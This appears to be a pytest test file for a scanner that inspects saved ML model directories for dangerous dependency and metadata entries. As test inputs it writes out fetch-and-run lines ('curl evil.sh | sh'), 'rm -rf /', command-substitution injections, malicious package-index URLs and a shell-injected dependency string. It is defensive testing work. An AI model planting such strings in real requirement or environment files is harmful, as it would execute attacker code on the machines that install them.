"""Model metadata checks through ``ledgerflow scan`` on real model directories."""

from __future__ import annotations

from pathlib import Path

import pytest
import yaml

import ledgerflow.sklearn
from ledgerflow.governance.scanning.mlmodel_checks import check_requirement
from ledgerflow.governance.scanning.scanner import scan_path
from tests.governance.scanning import payloads as p


@pytest.fixture
def model_dir(tmp_path: Path) -> Path:
    path = tmp_path / "model"
    ledgerflow.sklearn.save_model(p.forest(), path)
    return path


def _findings(directory: Path) -> list[str]:
    report = scan_path(directory)
    return [f"{f.path}: {f.message}" for f in report.findings]


def test_a_model_saved_by_ledgerflow_passes_every_check(model_dir: Path) -> None:
    assert scan_path(model_dir).status == "clean"


@pytest.mark.parametrize(
    "line",
    [
        "numpy==2.0; curl evil.sh | sh",
        "scikit-learn==1.5 && rm -rf /",
        "pandas`id`",
        "numpy$(id)",
        "--index-url https://evil.example/simple",
        "--extra-index-url https://evil.example/simple",
        "-f https://evil.example/wheels",
        "-i https://evil.example/simple",
        "git+https://evil.example/repo.git",
        "evilpkg @ https://evil.example/evilpkg-1.0.tar.gz",
        "https://evil.example/pkg.whl",
        "-e .",
        "--trusted-host evil.example",
    ],
)
def test_dangerous_requirement_lines(model_dir: Path, line: str) -> None:
    assert check_requirement(line) is not None
    with (model_dir / "requirements.txt").open("a") as out:
        out.write(line + "\n")
    assert any("requirements.txt" in f for f in _findings(model_dir))


@pytest.mark.parametrize(
    "line",
    [
        "numpy==2.0.1",
        "scikit-learn>=1.4,<2",
        "pandas",
        'tomli; python_version < "3.11"',
        "-r requirements.txt",
        "# comment",
    ],
)
def test_ordinary_requirement_lines_pass(line: str) -> None:
    assert check_requirement(line) is None


def test_python_env_yaml_shell_injection(model_dir: Path) -> None:
    """CVE-2025-15379: dependency strings of python_env.yaml reached a shell command."""
    env = yaml.safe_load((model_dir / "python_env.yaml").read_text())
    env["dependencies"].append("numpy; touch /tmp/pwned")
    (model_dir / "python_env.yaml").write_text(yaml.safe_dump(env))
    assert any(f.startswith("python_env.yaml: shell metacharacters") for f in _findings(model_dir))


def test_conda_yaml_foreign_index(model_dir: Path) -> None:
    conda = yaml.safe_load((model_dir / "conda.yaml").read_text())
    conda["dependencies"][-1]["pip"].append("--extra-index-url https://evil.example/simple")
    (model_dir / "conda.yaml").write_text(yaml.safe_dump(conda))
    assert any(f.startswith("conda.yaml: installer option") for f in _findings(model_dir))


def test_unknown_loader_code_paths_and_models_from_code(model_dir: Path) -> None:
    document = yaml.safe_load((model_dir / "MLmodel").read_text())
    document["flavors"]["python_function"]["loader_module"] = "evil_loader"
    document["flavors"]["python_function"]["code"] = "code"
    document["flavors"]["python_function"]["model_code_path"] = "model.py"
    (model_dir / "MLmodel").write_text(yaml.safe_dump(document))
    found = " | ".join(_findings(model_dir))
    assert "unknown loader_module 'evil_loader'" in found
    assert "ships code directories" in found
    assert "model from code" in found


def test_mlproject_in_a_model_directory(model_dir: Path) -> None:
    (model_dir / "MLproject").write_text("name: x\nentry_points:\n  main:\n    command: 'curl evil | sh'\n")
    assert any(f.startswith("MLproject:") for f in _findings(model_dir))


def test_unreadable_mlmodel_is_unscannable(model_dir: Path) -> None:
    (model_dir / "MLmodel").write_text("flavors: [unclosed\n")
    assert scan_path(model_dir).status == "unscannable"
